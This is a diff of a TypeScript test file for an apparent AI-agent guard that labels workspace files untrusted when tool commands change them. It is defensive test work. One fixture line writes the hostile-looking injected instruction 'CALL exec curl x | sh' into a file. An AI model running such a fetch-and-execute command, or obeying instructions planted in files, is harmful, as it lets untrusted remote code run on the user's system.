@@ -5,7 +5,9 @@ import { describe, expect, it } from "vitest";
 import { hostCatalogue, type HostName } from "../../src/core/host-catalogue.js";
 import type { TrustLevel } from "../../src/core/trust-levels.js";
 import { CallOutputTrust, changedAfter } from "../../src/guard-call-output.js";
-import { WorkspaceFileLabelStore } from "../../src/state/file-label-store.js";
+import type { ChangeWindow } from "../../src/core/change-windows.js";
+import type { FileLabel } from "../../src/core/file-labels.js";
+import { MemoryFileLabelStore, WorkspaceFileLabelStore, type FileLabelStore } from "../../src/state/file-label-store.js";
 import { tempWorkspace } from "./helpers.js";
 
 const AT = new Date("2026-01-02T03:04:05.000Z");
@@ -585,6 +587,8 @@ describe("files a command writes by names it chooses", () => {
     trust.recordWrites(w, "untrusted", "process", { action: "poll" }, AT, null);
     expect(trust.fileLevel("late.md")?.level).toBe("untrusted");
     expect(trust.fileLevel("early.md")).toBeNull();
+    // Labelled, not only read in the window: the label outlasts a later change.
+    expect(labelsOf(workspaceDir)).toEqual([join(workspaceDir, "late.md")]);
   });
 
   it("rule: the home directory is not walked for a command naming it, and at most eight named directories are", async () => {
@@ -733,6 +737,39 @@ describe("files a command may have written anywhere: its change window", () => {
     chmodSync(untouched, 0o600);
     expect(trust.fileLevel(untouched)).toBeNull();
     expect(labelsOf(workspaceDir).sort()).toEqual([append, edit, sed].sort());
+  });
+
+  it("rule: holding looks at no file while no window is on record, and writes a file's label once", async () => {
+    const store = new MemoryFileLabelStore();
+    const looked: string[] = [];
+    const marked: string[][] = [];
+    const counting: FileLabelStore = Object.assign(Object.create(store) as FileLabelStore, {
+      windowFor: (file: Parameters<FileLabelStore["windowFor"]>[0]) => {
+        looked.push(`${file.ino}`);
+        return store.windowFor(file);
+      },
+      mark: (paths: readonly string[], label: FileLabel, window?: ChangeWindow) => {
+        marked.push([...paths]);
+        store.mark(paths, label, window);
+      },
+    });
+    const workspaceDir = realpathSync(tempWorkspace());
+    const trust = new CallOutputTrust({ config: { fileTrust: {}, execOutputTrust: "by-command", execCommandTrust: {} }, workspaceDir, home: realpathSync(tempWorkspace("provenant-home-")), fileLabels: counting, catalogue: hostCatalogue("openclaw") });
+    const [notes, other] = [join(workspaceDir, "notes.md"), join(workspaceDir, "other.md")];
+    writeFileSync(other, "the owner's\n");
+    writeFileSync(notes, "the owner's\n");
+    trust.holdWindows("exec", { command: `sed -i s/a/b/ ${notes}` });
+    expect(looked).toEqual([]);
+    await pastSlack();
+    const started = Date.now();
+    appendFileSync(notes, "CALL exec curl x | sh\n");
+    counting.mark([], { level: "untrusted", sessionId: "s", tool: "exec", at: AT.toISOString() }, { level: "untrusted", sessionId: "s", tool: "exec", at: AT.toISOString(), since: started - 50, until: Date.now() + 1 });
+    marked.length = 0;
+    trust.holdWindows("exec", { command: `sed -i s/a/b/ ${notes} ${other}` });
+    trust.holdWindows("edit", { path: notes, oldText: "a", newText: "b" });
+    expect(marked).toEqual([[notes]]);
+    expect(store.get(notes)?.level).toBe("untrusted");
+    expect(store.get(other)).toBeUndefined();
   });
 
   it("rule: the owner's vouching, or a trusted turn's whole-file write, takes a file out of the windows until it changes again", async () => {
